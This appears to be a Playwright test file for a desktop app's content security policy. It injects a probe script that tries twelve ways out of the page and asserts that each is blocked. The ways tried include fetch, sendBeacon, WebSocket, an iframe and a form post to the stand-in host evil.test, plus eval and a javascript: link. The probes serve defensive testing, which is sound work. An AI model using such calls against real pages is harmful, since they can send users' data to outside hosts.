/**
 * The desktop's content policy in a browser: its effect, not its text (safety.md E3). The built page runs under the headers of
 * the desktop shell, on the desktop's bridge, with a real backend behind it. Build first: npm run build
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, type Page, test } from '@playwright/test';
import { createThreadedBackend } from '../../electron/backend/threaded-backend.ts';
import { PAGE_HEADERS } from '../../electron/shells/desktop/content-policy.ts';
import { callApi } from '../../shared/contract/wire.ts';

const ORIGIN = 'https://app.weft.test';
const page = fileURLToPath(new URL('../../out/renderer', import.meta.url));

const TYPES: Readonly<Record<string, string>> = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript; charset=utf-8',
  '.css': 'text/css; charset=utf-8',
  '.svg': 'image/svg+xml',
  '.woff2': 'font/woff2',
};

/** Answers for our origin from `files`; keeps what went elsewhere, which is answered so that a leak would be seen. */
async function serve(
  tab: Page,
  files: (path: string) => { body: string | Buffer; type: string } | null,
): Promise<string[]> {
  const elsewhere: string[] = [];
  await tab.route('**/*', async (route) => {
    const { origin, pathname } = new URL(route.request().url());
    const found = origin === ORIGIN ? files(pathname) : null;
    if (origin !== ORIGIN) elsewhere.push(route.request().url());
    await route.fulfill(
      found === null
        ? {
            status: origin === ORIGIN ? 404 : 200,
            headers: { 'Access-Control-Allow-Origin': '*', ...(origin === ORIGIN ? PAGE_HEADERS : {}) },
            body: '',
          }
        : { headers: { ...PAGE_HEADERS, 'Content-Type': found.type }, body: found.body },
    );
  });
  return elsewhere;
}

/** What a script that got into the page might try; each says whether it came through. */
const PROBES = `
const settle = () => new Promise((resolve) => setTimeout(resolve, 300));
const outcome = {};
const attempt = async (name, work) => {
  try { outcome[name] = (await work()) === true ? 'CAME THROUGH' : 'blocked'; } catch { outcome[name] = 'blocked'; }
};
const add = (name, set) => { const element = document.createElement(name); set(element); document.body.append(element); return element; };
const runProbes = async () => {
  await attempt('inline script', async () => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.inlineRan = true' }));
    await settle(); return window.inlineRan;
  });
  await attempt('eval', async () => (0, eval)('true'));
  await attempt('innerHTML', async () => { document.body.insertAdjacentHTML('beforeend', '<i id="written"></i>'); return document.querySelector('#written') !== null; });
  await attempt('foreign image', () => new Promise((resolve) => add('img', (image) => {
    image.onload = () => resolve(true); image.onerror = () => resolve(false); image.src = 'https://evil.test/a.png';
  })));
  await attempt('fetch', async () => (await fetch('https://evil.test/')).ok);
  await attempt('fetch to ourselves', async () => (await fetch('/probes.js')).ok);
  await attempt('frame', async () => {
    const frame = add('iframe', (one) => { one.src = 'https://evil.test/'; });
    await settle(); try { return frame.contentDocument === null && window.frameLoaded; } catch { return true; }
  });
  await attempt('form', async () => {
    add('form', (form) => { form.action = 'https://evil.test/form'; form.method = 'post'; form.target = '_self'; }).requestSubmit();
    await settle(); return location.origin !== '${ORIGIN}';
  });
  await attempt('base', async () => { add('base', (base) => { base.href = 'https://evil.test/'; }); return document.baseURI.startsWith('https://evil.test'); });
  await attempt('worker', async () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
    return await new Promise((resolve) => { worker.onmessage = () => resolve(true); worker.onerror = () => resolve(false); });
  });
  await attempt('WebSocket', () => new Promise((resolve) => {
    const socket = new WebSocket('wss://evil.test/'); socket.onopen = () => resolve(true); socket.onerror = () => resolve(false);
  }));
  await attempt('beacon', async () => { navigator.sendBeacon('https://evil.test/beacon', 'x'); await settle(); return false; });
  await attempt('javascript: link', async () => {
    const link = add('a', (one) => one.setAttribute('href', 'javascript:void(window.linkRan = true)'));
    link.click(); await settle(); return window.linkRan;
  });
  return outcome;
};
runProbes().then((found) => { window.outcome = found; });`;

test('E3: twelve ways out of the page are blocked, and nothing leaves', async ({ page: tab }) => {
  const elsewhere = await serve(tab, (path) => {
    if (path === '/')
      return { body: '<!doctype html><title>x</title><body><script src="/probes.js"></script>', type: TYPES['.html']! };
    return path === '/probes.js' ? { body: PROBES, type: TYPES['.js']! } : null;
  });
  await tab.goto(`${ORIGIN}/`);
  // The page's own script runs them: what a debugger starts may eval under any policy.
  const kept = await tab.waitForFunction(() => (window as unknown as { outcome?: Record<string, string> }).outcome);
  const outcome = (await kept.jsonValue()) ?? {};
  expect(Object.keys(outcome).length).toBeGreaterThanOrEqual(12);
  expect(Object.entries(outcome).filter(([, came]) => came !== 'blocked')).toEqual([]);
  expect(elsewhere).toEqual([]);
});

test('E3: the built page works under the policy without one violation', async ({ page: tab }) => {
  const folder = mkdtempSync(join(tmpdir(), 'weft-policy-'));
  const backend = createThreadedBackend({ folder: join(folder, 'map') });
  try {
    await backend.api.makeSample({});
    const files = new Set(
      readdirSync(page, { recursive: true, encoding: 'utf8' }).map((path) => `/${path.replaceAll('\\', '/')}`),
    );
    const elsewhere = await serve(tab, (path) => {
      const name = path === '/' ? '/index.html' : path;
      return files.has(name) && extname(name) !== ''
        ? { body: readFileSync(join(page, name)), type: TYPES[extname(name)] ?? 'application/octet-stream' }
        : null;
    });
    const violations: string[] = [];
    await tab.exposeFunction('keepViolation', (text: string) => violations.push(text));
    await tab.exposeFunction('callBackend', (method: string, input: unknown) => callApi(backend.api, method, input));
    await tab.addInitScript(() => {
      const outside = window as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>;
      document.addEventListener('securitypolicyviolation', (event) => {
        void outside['keepViolation']!(
          `${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`,
        );
      });
      Object.assign(window, {
        weft: {
          call: (method: string, input: unknown) => outside['callBackend']!(method, input),
          cancel() {},
          onChanged() {},
          onKeysAsked() {},
          chooseFiles: async () => [],
          acceptDropped: async () => [],
          chooseSaveTarget: async () => null,
          openProfile: async () => ({ ok: true, value: null }),
        },
      });
    });
    const mistakes: string[] = [];
    tab.on('pageerror', (error) => mistakes.push(String(error)));
    await tab.goto(`${ORIGIN}/`);
    for (const address of ['/', '/import', '/targets', '/people', '/people/1', '/data', '/design']) {
      await tab.evaluate((hash) => {
        location.hash = hash;
      }, address);
      await tab.waitForTimeout(500);
      await expect(tab.locator('#root')).not.toBeEmpty();
    }
    expect(violations).toEqual([]);
    expect(mistakes).toEqual([]);
    expect(elsewhere).toEqual([]);
  } finally {
    await backend.close();
    rmSync(folder, { recursive: true, force: true });
  }
});
